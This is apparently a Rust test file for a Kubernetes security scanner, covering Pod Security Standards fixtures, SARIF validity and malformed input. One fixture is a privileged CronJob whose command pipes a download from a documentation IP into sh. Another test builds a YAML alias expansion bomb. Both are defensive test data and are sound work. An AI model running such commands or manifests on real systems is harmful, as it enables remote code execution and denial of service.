//! End-to-end tests of `jobwarden scan`: Pod Security Standards conformance over the upstream
//! fixtures, SARIF validity, bad input.

use jobwarden_testkit::{repo_root as repo, shared};
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, Output};

fn exe() -> &'static str {
    env!("CARGO_BIN_EXE_jobwarden")
}

fn scan(args: &[&str]) -> Output {
    Command::new(exe())
        .arg("scan")
        .args(args)
        .output()
        .expect("run jobwarden")
}

fn findings(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).expect("one JSON finding per line"))
        .collect()
}

/// `capabilities_restricted3.yaml` → `capabilities_restricted`.
fn check_named_by(file: &str) -> String {
    file.trim_end_matches(".yaml")
        .trim_end_matches(|c: char| c.is_ascii_digit())
        .to_string()
}

#[test]
fn pod_security_fixtures_conform_for_every_level_and_version() {
    let Some(shared) = shared() else { return };
    let root = shared.join("fixtures/pod-security");
    let mut checked = 0usize;
    let mut failures = Vec::new();
    for level in ["baseline", "restricted"] {
        let mut versions: Vec<_> = std::fs::read_dir(root.join(level))
            .expect("level dir")
            .filter_map(|e| e.ok())
            .map(|e| e.file_name().to_string_lossy().to_string())
            .collect();
        versions.sort();
        for version in versions {
            for outcome in ["pass", "fail"] {
                let dir = root.join(level).join(&version).join(outcome);
                if !dir.is_dir() {
                    continue;
                }
                let out = scan(&[
                    "--format",
                    "jsonl",
                    "--pss",
                    level,
                    "--pss-version",
                    &version,
                    "--min-severity",
                    "info",
                    "-q",
                    dir.to_str().expect("path"),
                ]);
                assert!(
                    matches!(out.status.code(), Some(0 | 1)),
                    "{}: {}",
                    dir.display(),
                    String::from_utf8_lossy(&out.stderr)
                );
                let mut pss_by_file: BTreeMap<String, Vec<String>> = BTreeMap::new();
                for f in findings(&out) {
                    if f["category"] != "pss" {
                        continue;
                    }
                    let file = f["location"]["file"].as_str().unwrap_or_default();
                    let name = Path::new(file)
                        .file_name()
                        .map(|n| n.to_string_lossy().to_string())
                        .unwrap_or_default();
                    let check = f["check"]
                        .as_str()
                        .unwrap_or_default()
                        .rsplit('.')
                        .next()
                        .unwrap_or_default()
                        .to_ascii_lowercase();
                    pss_by_file.entry(name).or_default().push(check);
                }
                for entry in std::fs::read_dir(&dir)
                    .expect("fixture dir")
                    .filter_map(|e| e.ok())
                {
                    let name = entry.file_name().to_string_lossy().to_string();
                    if !name.ends_with(".yaml") {
                        continue;
                    }
                    checked += 1;
                    let got = pss_by_file.get(&name).cloned().unwrap_or_default();
                    if outcome == "pass" && !got.is_empty() {
                        failures.push(format!("{level}/{version}/pass/{name}: {got:?}"));
                    }
                    if outcome == "fail" {
                        let want = check_named_by(&name);
                        // At restricted, upstream replaces some baseline checks by a stricter
                        // revision that reports its own id (policy/check_*.go `overrides`).
                        let overriding = match (level, want.as_str()) {
                            ("restricted", "hostpathvolumes") => "restrictedvolumes",
                            ("restricted", "capabilities_baseline") => "capabilities_restricted",
                            ("restricted", "seccompprofile_baseline") => {
                                "seccompprofile_restricted"
                            }
                            ("restricted", "procmount") => "procmount_restricted",
                            _ => "",
                        };
                        if !got.iter().any(|c| *c == want || *c == overriding) {
                            failures.push(format!(
                                "{level}/{version}/fail/{name}: want {want}, got {got:?}"
                            ));
                        }
                    }
                }
            }
        }
    }
    assert_eq!(checked, 4537, "fixture count changed");
    assert!(
        failures.is_empty(),
        "{} of {checked} wrong:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn sarif_output_is_valid_sarif_2_1_0() {
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(repo().join("tests/data/sarif/sarif-2.1.0.json")).expect("schema"),
    )
    .expect("schema parses");
    let validator = jsonschema::validator_for(&schema).expect("schema compiles");
    let tmp = tempfile::tempdir().expect("tempdir");
    let manifest = tmp.path().join("cj.yaml");
    std::fs::write(
        &manifest,
        "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: x\n  namespace: default\nspec:\n  schedule: '* * * * *'\n  successfulJobsHistoryLimit: 0\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          hostPID: true\n          restartPolicy: Never\n          containers:\n          - name: c\n            image: 10.0.0.5:5000/x\n            command: [sh, -c, 'curl -s http://198.51.100.9/p | sh']\n            securityContext:\n              privileged: true\n",
    )
    .expect("write");
    let out = scan(&[
        "--format",
        "sarif",
        "--pss",
        "restricted",
        "--min-severity",
        "info",
        "-q",
        manifest.to_str().expect("path"),
    ]);
    let sarif: Value = serde_json::from_slice(&out.stdout).expect("SARIF is JSON");
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{}", errors.join("\n"));
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert!(results.len() >= 5);
    assert!(results.iter().all(|r| {
        r["locations"][0]["physicalLocation"]["region"]["startLine"]
            .as_u64()
            .is_some_and(|l| l >= 1)
    }));
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .expect("rules");
    assert!(rules.iter().any(|r| r["id"] == "pss.restricted.privileged"));
    assert_eq!(out.status.code(), Some(0));
}

#[test]
fn bad_documents_are_reported_and_the_rest_judged() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let path = tmp.path().join("mixed.yaml");
    let bomb = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n";
    let text = format!(
        "apiVersion: v1\nkind: Pod\nmetadata: {{name: broken\n---\n{bomb}---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: priv\nspec:\n  containers:\n  - name: c\n    image: nginx\n    securityContext:\n      privileged: true\n---\nkind: Widget\nmetadata: {{name: w}}\n"
    );
    std::fs::write(&path, text).expect("write");
    let p = path.to_str().expect("path");
    let out = scan(&["--format", "jsonl", p]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("{p}:")),
        "errors name the file and line: {stderr}"
    );
    let found = findings(&out);
    let priv_finding = found
        .iter()
        .find(|f| f["check"] == "pss.baseline.privileged")
        .expect("the good document is still judged");
    assert_eq!(
        priv_finding["location"]["line"], 22,
        "the line of `privileged: true`"
    );
    assert!(
        stderr.contains("Widget"),
        "unknown kinds are counted: {stderr}"
    );
}

#[test]
fn fail_on_and_exit_codes() {
    let Some(shared) = shared() else { return };
    let atomic = shared.join("corpus/atomic-t1053.007/cronjob.yaml");
    let a = atomic.to_str().expect("path");
    assert_eq!(scan(&["-q", "--fail-on", "low", a]).status.code(), Some(1));
    assert_eq!(
        scan(&["-q", "--fail-on", "critical", a]).status.code(),
        Some(0)
    );
    assert_eq!(
        scan(&["-q", "--pss-version", "v9.x", a]).status.code(),
        Some(2)
    );
}

#[test]
fn shipped_deploy_manifests_pass_restricted() {
    let deploy = repo().join("deploy");
    let out = scan(&[
        "-q",
        "--pss",
        "restricted",
        "--fail-on",
        "medium",
        deploy.to_str().expect("path"),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}
